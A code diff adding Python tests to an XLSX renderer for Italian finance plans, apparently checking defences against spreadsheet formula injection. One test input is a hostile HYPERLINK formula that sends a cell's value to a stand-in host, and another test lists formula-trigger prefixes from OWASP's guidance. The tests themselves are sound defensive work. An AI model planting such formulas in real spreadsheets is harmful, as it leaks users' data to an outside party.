@@ -7,6 +7,8 @@ import re
 import shutil
 import subprocess
 import sys
+import zipfile
+import xml.etree.ElementTree as ET
 from dataclasses import replace
 from decimal import Decimal
 from pathlib import Path
@@ -18,7 +20,9 @@ from openpyxl.cell.cell import MergedCell
 from conftest import ROOT, edit
 from pdz_docs.finance.table import Cell, Table, cells
 from pdz_docs.pipeline import run
-from pdz_docs.render.xlsx import NUMBER_FORMATS, render_xlsx
+from pdz_docs.render.xlsx import NUMBER_FORMATS, PROGRAMME_SHEET, TABLE_SHEETS, render_xlsx
+
+NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
 
 SHEETS = {"Scheda A": "scheda_a", "Scheda C": "scheda_c", "Budget per fonte": "budget",
           "Cofinanziamento": "cofinanziamento_minimo", "Cofinanziamento precedente": "cofinanziamento_precedente"}
@@ -267,3 +271,114 @@ def test_total_not_a_plain_sum_is_written_as_value(default):
     last = ws.max_row
     assert ws.cell(last - 1, 3).value == 8515850 and ws.cell(last, 3).value == 0.4714
     assert ws.cell(last, 3).number_format == "[$-410]0.00%"
+
+
+# --- text stays text; formulas only where declared, with their values ----------------------
+
+def sheet_tables(result) -> dict[str, Table]:
+    """Sheet name → the computed table it lays out, as the workbook orders them."""
+    out = {name: result.computed.tables[tid] for name, tid in TABLE_SHEETS if tid in result.computed.tables}
+    return {**out, PROGRAMME_SHEET: result.computed.programmazione}
+
+
+def sheet_xml(data: bytes) -> tuple[dict[str, ET.Element], list[str], list[ET.Element]]:
+    """The worksheets' XML by sheet name, the shared strings, and the cell formats (xf) in order."""
+    z = zipfile.ZipFile(io.BytesIO(data))
+    rel = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
+    targets = {r.get("Id"): r.get("Target").removeprefix("/xl/")
+               for r in ET.fromstring(z.read("xl/_rels/workbook.xml.rels"))}
+    sheets = {s.get("name"): ET.fromstring(z.read("xl/" + targets[s.get(rel)]))
+              for s in ET.fromstring(z.read("xl/workbook.xml")).iterfind(".//m:sheet", NS)}
+    shared = [n for n in z.namelist() if n.lower() == "xl/sharedstrings.xml"]
+    strings = ["".join(t.text or "" for t in si.iterfind(".//m:t", NS))
+               for name in shared for si in ET.fromstring(z.read(name)).iterfind("m:si", NS)]
+    xfs = list(ET.fromstring(z.read("xl/styles.xml")).iterfind("m:cellXfs/m:xf", NS))
+    return sheets, strings, xfs
+
+
+def cell_text(c: ET.Element, strings: list[str]) -> str | None:
+    """The text of a string cell (shared or inline); None for any other cell."""
+    if c.get("t") == "s":
+        return strings[int(c.find("m:v", NS).text)]
+    if c.get("t") == "inlineStr":
+        return "".join(t.text or "" for t in c.iterfind(".//m:t", NS))
+    return None
+
+
+HOSTILE_TITLE = '=HYPERLINK("http://x.example/?"&C3,"Clicca")'
+
+
+def test_text_that_looks_like_a_formula_stays_text(plan_dir: Path):
+    edit(plan_dir / "schede" / "A.1.yaml", "titolo: Segretariato sociale", f"titolo: '{HOSTILE_TITLE}'")
+    for name in ("piano.yaml", "finanza.yaml"):
+        edit(plan_dir / name, "Beta", "'=1+1'")
+    data = render_xlsx(compute(plan_dir))
+    sheets, strings, xfs = sheet_xml(data)
+    found = []
+    for name, root in sheets.items():
+        for c in root.iterfind(".//m:c", NS):
+            text = cell_text(c, strings)
+            if text in (HOSTILE_TITLE, "=1+1"):
+                assert c.find("m:f", NS) is None, (name, c.get("r"))
+                assert xfs[int(c.get("s"))].get("quotePrefix") == "1", (name, c.get("r"))
+                found.append((name, text))
+            else:  # the only formulas are sums, never a text of the plan
+                f = c.find("m:f", NS)
+                assert f is None or summed_refs("=" + f.text), (name, c.get("r"), f.text)
+    assert sorted(set(found)) == [("Cofinanziamento", "=1+1"), (PROGRAMME_SHEET, HOSTILE_TITLE),
+                                  ("Scheda A", HOSTILE_TITLE), ("Scheda C", HOSTILE_TITLE)]
+    wb = openpyxl.load_workbook(io.BytesIO(data))  # the text shown is the writer's, unchanged
+    assert wb["Scheda A"]["B3"].value == HOSTILE_TITLE and wb["Cofinanziamento"]["A4"].value == "=1+1"
+
+
+@pytest.mark.parametrize("text,prefixed", [
+    ("=1+1", True), ("+39 0833 123456", True), ("-5", True), ("@SUM(A1)", True), ("\tx", True),
+    ("\rx", True), ("＝1+1", True), ("＋1", True), ("－1", True), ("＠x", True),
+    ("Casarano", False), ("1=1", False), ("", False)])
+def test_quote_prefix_on_formula_triggers(default, text: str, prefixed: bool):
+    """OWASP's list: a text starting with = + - @ tab or carriage return (also full width) keeps a quote prefix."""
+    result, _, _ = default
+    tables = dict(result.computed.tables)
+    budget = tables["budget"]
+    tables["budget"] = replace(budget, rows=(cells(text, "", Cell(Decimal(1), "euro")), *budget.rows[1:]))
+    changed = replace(result, computed=replace(result.computed, tables=tables))
+    ws = openpyxl.load_workbook(io.BytesIO(render_xlsx(changed)))["Budget per fonte"]
+    # a carriage return is stored as _x000D_ (XML would drop it), which openpyxl does not decode
+    assert (ws["A3"].value or "") == text.replace("\r", "_x000D_") and ws["A3"].data_type in ("s", "n")
+    assert ws["A3"].quotePrefix == prefixed
+    assert not is_formula(ws["B3"].value) and ws["B3"].quotePrefix is False
+
+
+def test_formulas_only_where_declared(default):
+    """The formula cells are exactly the declared sums with a known figure, each a SUM of cells."""
+    result, data, _ = default
+    sheets, _, _ = sheet_xml(data)
+    count = 0
+    for name, table in sheet_tables(result).items():
+        declared = {openpyxl.utils.get_column_letter(s.col + 1) + str(3 + s.row) for s in table.sums
+                    if table.body[s.row][s.col].value is not None}
+        formulas = {c.get("r"): c.find("m:f", NS).text for c in sheets[name].iterfind(".//m:c", NS)
+                    if c.find("m:f", NS) is not None}
+        assert set(formulas) == declared, name
+        for ref, f in formulas.items():
+            assert summed_refs("=" + f), (name, ref)
+        count += len(formulas)
+    assert count == 295
+
+
+def test_cached_values_are_the_computed_figures(default):
+    """A reader that does not calculate (openpyxl data_only, previews) sees every total."""
+    result, data, _ = default
+    values = openpyxl.load_workbook(io.BytesIO(data), data_only=True)
+    formulas = openpyxl.load_workbook(io.BytesIO(data))
+    checked = 0
+    for name, table in sheet_tables(result).items():
+        for i, row in enumerate(table.body):
+            for j, cell in enumerate(row, 1):
+                if not cell.numeric or cell.value is None:
+                    continue
+                shown = values[name].cell(3 + i, j).value
+                expected = cell.value / 100 if cell.fmt == "pct" else cell.value
+                assert isinstance(shown, (int, float)) and Decimal(repr(shown)) == expected, (name, i, j, shown)
+                checked += is_formula(formulas[name].cell(3 + i, j).value)
+    assert checked == 295
